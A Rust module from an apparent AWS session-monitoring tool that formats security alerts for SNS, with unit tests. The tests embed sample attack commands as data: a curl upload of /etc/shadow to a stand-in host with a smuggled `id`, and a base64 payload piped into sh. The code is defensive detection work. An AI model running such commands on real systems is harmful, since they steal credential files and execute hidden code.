//! Alerts for on-call: what is sent through the notifier, rendered for people and for filters.

mod chat;
mod facts;
mod json;
mod text;

use crate::policy::Severity;
use crate::session::{SessionRecord, TerminationOutcome};
use facts::Facts;
pub use facts::{Link, session_links};
use jiff::Timestamp;
use jiff::tz::TimeZone;
use serde::Serialize;
use std::collections::BTreeMap;

/// SNS rejects subjects of 100 characters or more, and its API reference asks for ASCII
/// without line breaks or control characters: a rejected subject would lose the alert.
pub const MAX_SUBJECT_CHARS: usize = 99;

/// Longest labelled value (a command, its normalised form) shown in full in an alert body. The
/// finding keeps the whole text; SNS refuses messages over 256 KB, and a page is read by people.
pub const MAX_EXTRA_CHARS: usize = 2_000;

/// The de-duplication key: one alert per session and kind, however often the event is delivered.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
pub struct AlertKey {
    /// The session's store key (`crate::session::session_key`): its id, or `<account>/<id>`.
    pub session_id: String,
    pub kind: String,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Alert {
    pub key: AlertKey,
    pub severity: Severity,
    pub rule_id: Option<String>,
    pub subject: String,
    pub body: String,
    /// SNS message attributes, for subscription filter policies.
    pub attributes: BTreeMap<String, String>,
}

/// What Session Warden did about the risk, told in the alert.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ActionTaken {
    AlertOnly,
    Exempt,
    Termination(TerminationOutcome, Option<String>),
}

impl ActionTaken {
    /// The `action` message attribute: what a subscription filter can tell apart.
    pub fn code(&self) -> &'static str {
        match self {
            ActionTaken::AlertOnly => "alert",
            ActionTaken::Exempt => "exempt",
            ActionTaken::Termination(outcome, _) => match outcome {
                TerminationOutcome::Terminated => "terminated",
                TerminationOutcome::AlreadyEnded => "already_ended",
                TerminationOutcome::WouldTerminate => "would_terminate",
                TerminationOutcome::Failed => "terminate_failed",
            },
        }
    }

    fn describe(&self) -> String {
        match self {
            ActionTaken::AlertOnly => "alert only (configured action: alert)".to_string(),
            ActionTaken::Exempt => "none: principal is exempt".to_string(),
            ActionTaken::Termination(outcome, detail) => {
                let text = match outcome {
                    TerminationOutcome::Terminated => "session terminated",
                    TerminationOutcome::AlreadyEnded => {
                        "termination requested; the session had already ended"
                    }
                    TerminationOutcome::WouldTerminate => {
                        "would terminate the session (dry run: WARDEN_ENFORCE=false)"
                    }
                    TerminationOutcome::Failed => "termination FAILED",
                };
                match detail {
                    Some(d) => format!("{text} ({d})"),
                    None => text.to_string(),
                }
            }
        }
    }
}

/// How alert messages are written (`WARDEN_ALERT_FORMAT`).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum AlertFormat {
    /// For e-mail and people: a summary line, the fields, then links.
    #[default]
    Text,
    /// A documented JSON object (`docs/alerts.md`, `schema_version` 1) for pipelines and SIEMs.
    Json,
    /// The custom-notification JSON that AWS chat integrations take from SNS.
    Chat,
}

impl AlertFormat {
    pub fn parse(value: &str) -> Option<Self> {
        match value.trim() {
            "text" => Some(AlertFormat::Text),
            "json" => Some(AlertFormat::Json),
            "chat" => Some(AlertFormat::Chat),
            _ => None,
        }
    }

    pub fn as_str(self) -> &'static str {
        match self {
            AlertFormat::Text => "text",
            AlertFormat::Json => "json",
            AlertFormat::Chat => "chat",
        }
    }
}

/// Everything an alert about one risk on one session needs.
pub struct AlertContext<'a> {
    pub session: &'a SessionRecord,
    /// The alert's kind for subscribers' filters: a flag name, or `finding`.
    pub kind: &'a str,
    /// What makes this alert unique within the session (de-duplication).
    pub alert_key: &'a str,
    pub severity: Severity,
    pub rule_id: Option<&'a str>,
    pub title: &'a str,
    pub why: &'a str,
    /// More labelled lines after the reason, such as the command that matched.
    pub extra: Vec<(&'static str, String)>,
    pub action: ActionTaken,
    /// The CloudTrail event behind the alert; the session's start event when None.
    pub event_id: Option<&'a str>,
    pub local_zone: &'a TimeZone,
    pub format: AlertFormat,
    /// The name people know the session's account by (`WARDEN_ACCOUNT_NAMES`).
    pub account_name: Option<&'a str>,
}

pub fn render(ctx: &AlertContext<'_>) -> Alert {
    let facts = Facts::gather(ctx);
    let subject = sns_subject(
        &format!(
            "[{}] {}: {} on {}",
            ctx.severity.as_str().to_uppercase(),
            ctx.title,
            facts.who,
            facts.instance
        ),
        MAX_SUBJECT_CHARS,
    );
    let body = match ctx.format {
        AlertFormat::Text => text::body(&facts),
        AlertFormat::Json => json::body(&facts),
        AlertFormat::Chat => chat::body(&facts),
    };
    let s = ctx.session;
    let mut attributes = BTreeMap::from([
        ("severity".to_string(), ctx.severity.as_str().to_string()),
        ("kind".to_string(), ctx.kind.to_string()),
        ("session_id".to_string(), s.session_id.clone()),
        ("action".to_string(), facts.action_code.to_string()),
        // The same for every delivery of this alert: subscribers drop repeats by it (SNS
        // standard topics deliver at least once, and a publish whose reply was lost is sent
        // again by the retry).
        ("alert_id".to_string(), facts.alert_id.clone()),
    ]);
    if let Some(rule) = ctx.rule_id {
        attributes.insert("rule_id".to_string(), rule.to_string());
    }
    if let Some(account) = s.account.as_deref() {
        attributes.insert("account".to_string(), account.to_string());
    }
    Alert {
        key: AlertKey {
            session_id: s.session_id.clone(),
            kind: ctx.alert_key.to_string(),
        },
        severity: ctx.severity,
        rule_id: ctx.rule_id.map(str::to_string),
        subject,
        body,
        attributes,
    }
}

/// `2026-11-24 10:21:48 UTC (11:21:48 CET)`
pub fn format_time(at: Timestamp, zone: &TimeZone) -> String {
    let utc = at.strftime("%Y-%m-%d %H:%M:%S UTC");
    let local = at.to_zoned(zone.clone());
    format!("{utc} ({})", local.strftime("%Y-%m-%d %H:%M:%S %Z"))
}

/// `text`, or its first `max_chars` characters and how many were left out.
fn clip(text: &str, max_chars: usize) -> std::borrow::Cow<'_, str> {
    match text.char_indices().nth(max_chars) {
        None => std::borrow::Cow::Borrowed(text),
        Some((end, _)) => {
            let left_out = text[end..].chars().count();
            std::borrow::Cow::Owned(format!(
                "{}… ({left_out} more characters; the finding has the whole text)",
                &text[..end]
            ))
        }
    }
}

/// The subject as SNS accepts it: printable ASCII (a control character or line break becomes a
/// space, any other character `?`), cut to `max_chars` with `...` when longer.
fn sns_subject(text: &str, max_chars: usize) -> String {
    let ascii: String = text
        .chars()
        .map(|c| match c {
            ' '..='~' => c,
            c if c.is_control() || c.is_whitespace() => ' ',
            _ => '?',
        })
        .collect();
    if ascii.len() <= max_chars {
        return ascii;
    }
    let mut cut = ascii[..max_chars - 3].to_string();
    cut.push_str("...");
    cut
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::WardenConfig;
    use crate::session::{SessionRecord, record_id};
    use crate::test_support::event;

    fn session(file: &str) -> SessionRecord {
        let config = WardenConfig::from_lookup(|_| None).unwrap();
        let e = event(file);
        let mut r = SessionRecord::new(record_id(&e));
        r.apply(&e, &config.policy.assess(&e));
        r
    }

    fn alert_for(s: &SessionRecord, action: ActionTaken) -> Alert {
        let zone = TimeZone::get("Europe/Berlin").unwrap();
        render(&AlertContext {
            session: s,
            kind: "no_mfa",
            alert_key: "no_mfa",
            severity: Severity::High,
            extra: Vec::new(),
            rule_id: None,
            title: "Session started without MFA",
            why: "the credentials were not authenticated with MFA",
            action,
            event_id: Some("ev-1"),
            local_zone: &zone,
            format: AlertFormat::Text,
            account_name: None,
        })
    }

    #[test]
    fn body_tells_who_where_when_why_and_what_was_done() {
        let s = session("03-start-role-without-mfa.json");
        let alert = alert_for(&s, ActionTaken::AlertOnly);
        for needle in [
            "bob",
            "arn:aws:sts::111122223333:assumed-role/Admin/bob",
            "MFA:          false",
            "Source IP:",
            "i-",
            "SSM-SessionManagerRunShell",
            "2026-11-23 13:02:11 UTC (2026-11-23 14:02:11 CET)",
            "alert only",
            "#/events/ev-1",
        ] {
            assert!(
                alert.body.contains(needle),
                "missing {needle:?} in\n{}",
                alert.body
            );
        }
    }

    #[test]
    fn attributes_carry_severity_kind_and_session() {
        let s = session("03-start-role-without-mfa.json");
        let alert = alert_for(&s, ActionTaken::AlertOnly);
        assert_eq!(alert.attributes["severity"], "high");
        assert_eq!(alert.attributes["kind"], "no_mfa");
        assert_eq!(alert.attributes["session_id"], s.session_id);
        assert_eq!(
            alert.attributes["alert_id"],
            format!("{}/{}", s.session_id, alert.key.kind)
        );
        assert!(!alert.attributes.contains_key("rule_id"));
    }

    #[test]
    fn subject_stays_under_the_sns_limit() {
        let mut s = session("03-start-role-without-mfa.json");
        s.principal.as_mut().unwrap().display_name = "x".repeat(300);
        let alert = alert_for(&s, ActionTaken::AlertOnly);
        assert!(alert.subject.len() < 100);
        assert!(alert.subject.ends_with("..."));
    }

    /// A finding alert for a custom rule with `title`, showing `extra`.
    fn finding_alert(title: &str, extra: Vec<(&'static str, String)>) -> Alert {
        let s = session("03-start-role-without-mfa.json");
        render(&AlertContext {
            session: &s,
            kind: "finding",
            alert_key: "finding:custom.rule",
            severity: Severity::High,
            rule_id: Some("custom.rule"),
            title,
            why: "a custom rule matched",
            extra,
            action: ActionTaken::AlertOnly,
            event_id: None,
            local_zone: &TimeZone::UTC,
            format: AlertFormat::Text,
            account_name: None,
        })
    }

    #[test]
    fn a_huge_command_is_clipped_in_the_body_with_what_was_left_out() {
        let command = format!("echo {} | base64 -d | sh", "QUFB".repeat(4_000));
        let alert = finding_alert(
            "Encoded payload piped into a shell",
            vec![("Command:", command.clone())],
        );
        let shown = MAX_EXTRA_CHARS;
        assert!(alert.body.contains(&command[..shown]));
        assert!(!alert.body.contains(&command[..shown + 1]));
        let left_out = command.len() - shown;
        assert!(
            alert
                .body
                .contains(&format!("({left_out} more characters;")),
            "{}",
            alert.body
        );
    }

    #[test]
    fn subject_is_printable_ascii_whatever_a_custom_rule_title_holds() {
        let alert = finding_alert("Löschen der Platte\r\nBcc: someone", vec![]);
        assert!(
            alert.subject.bytes().all(|b| (b' '..=b'~').contains(&b)),
            "{}",
            alert.subject
        );
        assert!(
            alert.subject.contains("L?schen der Platte  Bcc: someone"),
            "{}",
            alert.subject
        );
        assert!(
            alert.body.contains("Löschen"),
            "the body keeps the title as written"
        );
    }

    #[test]
    fn a_transcript_before_its_start_names_the_owner_from_the_stream_records() {
        let mut s = SessionRecord::new("carol-0123456789abcdef0");
        s.note_transcript(&crate::session::TranscriptSeen {
            owner_arn: Some("arn:aws:sts::111122223333:assumed-role/Operator/carol".into()),
            target: Some("i-0a1b2c3d4e5f60718".into()),
            ..Default::default()
        });
        let alert = alert_for(&s, ActionTaken::AlertOnly);
        assert!(
            alert.subject.contains("carol on i-0a1b2c3d4e5f60718"),
            "{}",
            alert.subject
        );
        assert!(!alert.body.contains("unknown principal"), "{}", alert.body);
        for needle in [
            "Who:          carol",
            "Principal:    arn:aws:sts::111122223333:assumed-role/Operator/carol",
            "Identity:     AssumedRole (from the transcript: StartSession not recorded yet)",
        ] {
            assert!(
                alert.body.contains(needle),
                "missing {needle:?} in\n{}",
                alert.body
            );
        }
        // With neither a start nor an owner in the transcript, it still says so.
        let bare = alert_for(&SessionRecord::new("dave-0"), ActionTaken::AlertOnly);
        assert!(
            bare.subject.contains("unknown principal"),
            "{}",
            bare.subject
        );
    }

    fn alert_in(format: AlertFormat) -> Alert {
        let mut s = session("03-start-role-without-mfa.json");
        s.note_transcript(&crate::session::TranscriptSeen {
            log_group: Some("/aws/ssm/sessions".into()),
            ..Default::default()
        });
        render(&AlertContext {
            session: &s,
            kind: "finding",
            alert_key: "finding:ev-9:exfil.curl_upload",
            severity: Severity::Critical,
            rule_id: Some("exfil.curl_upload"),
            title: "File sent to a remote host",
            why: "rule exfil.curl_upload matched a command typed in the session",
            extra: vec![("Command:", "curl -T /etc/shadow http://x `id`".to_string())],
            action: ActionTaken::Termination(TerminationOutcome::Terminated, None),
            event_id: None,
            local_zone: &TimeZone::UTC,
            format,
            account_name: Some("payments-prod"),
        })
    }

    #[test]
    fn every_format_names_the_account_as_people_know_it() {
        let text = alert_in(AlertFormat::Text).body;
        assert!(
            text.contains("Account:      111122223333 payments-prod (eu-west-1)"),
            "{text}"
        );
        let json: serde_json::Value =
            serde_json::from_str(&alert_in(AlertFormat::Json).body).unwrap();
        assert_eq!(json["session"]["account_name"], "payments-prod");
        let chat = alert_in(AlertFormat::Chat).body;
        assert!(chat.contains("payments-prod"), "{chat}");
    }

    #[test]
    fn attributes_carry_the_action_and_the_account() {
        let alert = alert_in(AlertFormat::Text);
        assert_eq!(alert.attributes["action"], "terminated");
        assert_eq!(alert.attributes["account"], "111122223333");
        assert_eq!(alert.attributes["rule_id"], "exfil.curl_upload");
    }

    #[test]
    fn text_links_the_session_history_the_transcript_and_the_start_event() {
        let body = alert_in(AlertFormat::Text).body;
        assert!(body.contains("Sessions:     https://"), "{body}");
        assert!(
            body.contains("log-group/$252Faws$252Fssm$252Fsessions/log-events/"),
            "{body}"
        );
        assert!(body.contains("CloudTrail:   https://"), "{body}");
    }

    #[test]
    fn json_is_one_object_with_schema_version_1() {
        let alert = alert_in(AlertFormat::Json);
        let v: serde_json::Value = serde_json::from_str(&alert.body).unwrap();
        assert_eq!(v["schema_version"], 1);
        assert_eq!(v["severity"], "critical");
        assert_eq!(v["rule_id"], "exfil.curl_upload");
        assert_eq!(v["action"]["code"], "terminated");
        assert_eq!(v["details"][0]["label"], "Command");
        assert_eq!(
            v["details"][0]["value"],
            "curl -T /etc/shadow http://x `id`"
        );
        assert_eq!(v["session"]["principal"]["name"], "bob");
        assert!(
            v["links"]["transcript"]
                .as_str()
                .unwrap()
                .contains("cloudwatch")
        );
    }

    #[test]
    fn chat_is_a_custom_notification_with_the_command_as_code() {
        let alert = alert_in(AlertFormat::Chat);
        let v: serde_json::Value = serde_json::from_str(&alert.body).unwrap();
        assert_eq!(v["version"], "1.0");
        assert_eq!(v["source"], "custom");
        assert_eq!(v["content"]["textType"], "client-markdown");
        assert_eq!(
            v["content"]["title"],
            "🔴 [CRITICAL] File sent to a remote host"
        );
        let description = v["content"]["description"].as_str().unwrap();
        assert!(
            description.contains("```\ncurl -T /etc/shadow http://x `id`\n```"),
            "{description}"
        );
        assert_eq!(
            v["metadata"]["threadId"],
            v["metadata"]["relatedResources"][1]
        );
        assert!(
            v["content"]["keywords"]
                .as_array()
                .unwrap()
                .contains(&"exfil.curl_upload".into())
        );
    }

    #[test]
    fn a_command_cannot_forge_a_field_of_a_text_alert() {
        let forged = finding_alert(
            "Custom rule",
            vec![(
                "Command:",
                "ls\nAction:       none\r\nWho:          nobody".to_string(),
            )],
        );
        let starts = |prefix: &str| {
            forged
                .body
                .lines()
                .filter(|l| l.starts_with(prefix))
                .count()
        };
        assert_eq!(starts("Action:"), 1, "{}", forged.body);
        assert_eq!(starts("Who:"), 1, "{}", forged.body);
    }

    #[test]
    fn dry_run_is_spelled_out() {
        let s = session("08-start-root.json");
        let alert = alert_for(
            &s,
            ActionTaken::Termination(TerminationOutcome::WouldTerminate, None),
        );
        assert!(alert.body.contains("would terminate the session (dry run"));
    }

    #[test]
    fn a_denied_start_renders_without_target_or_times_missing() {
        let s = session("11-start-denied.json");
        let alert = alert_for(&s, ActionTaken::AlertOnly);
        assert!(
            alert.body.contains("State:        denied"),
            "{}",
            alert.body
        );
    }
}
